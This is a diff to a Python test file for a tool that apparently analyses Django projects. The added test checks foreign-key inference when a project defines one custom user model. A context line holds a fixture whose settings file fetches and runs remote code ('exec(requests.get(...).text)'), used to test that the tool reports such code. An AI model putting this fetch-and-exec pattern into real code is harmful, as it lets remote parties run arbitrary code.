@@ -117,6 +117,29 @@ def test_labels_that_are_guessed_are_said(project):
     assert [row.file for row in found] == ["depot/settings.py"]
 
 
+def test_without_settings_the_one_user_model_of_the_code_is_the_user_model(project):
+    users = """
+        from django.contrib.auth.models import AbstractUser
+        class Clerk(AbstractUser): ...
+        """
+    crates = """
+        from django.conf import settings
+        from django.db import models
+        class Crate(models.Model):
+            owner = models.ForeignKey(settings.AUTH_USER_MODEL, models.CASCADE)
+        """
+    system = project(
+        {
+            "staff/__init__.py": "",
+            "staff/models.py": users,
+            "crates/__init__.py": "",
+            "crates/models.py": crates,
+        }
+    ).system
+    keys = {(t.name, key.table) for t in system.tables for key in t.foreign_keys}
+    assert ("crates_crate", "staff_clerk") in keys
+
+
 def test_code_that_is_executed_and_not_known_is_said(project):
     settings = "import requests\nexec(requests.get('https://x').text)\n" + BASE
     system = project({**MANAGED, "depot/settings.py": settings, **DEPOT}).system
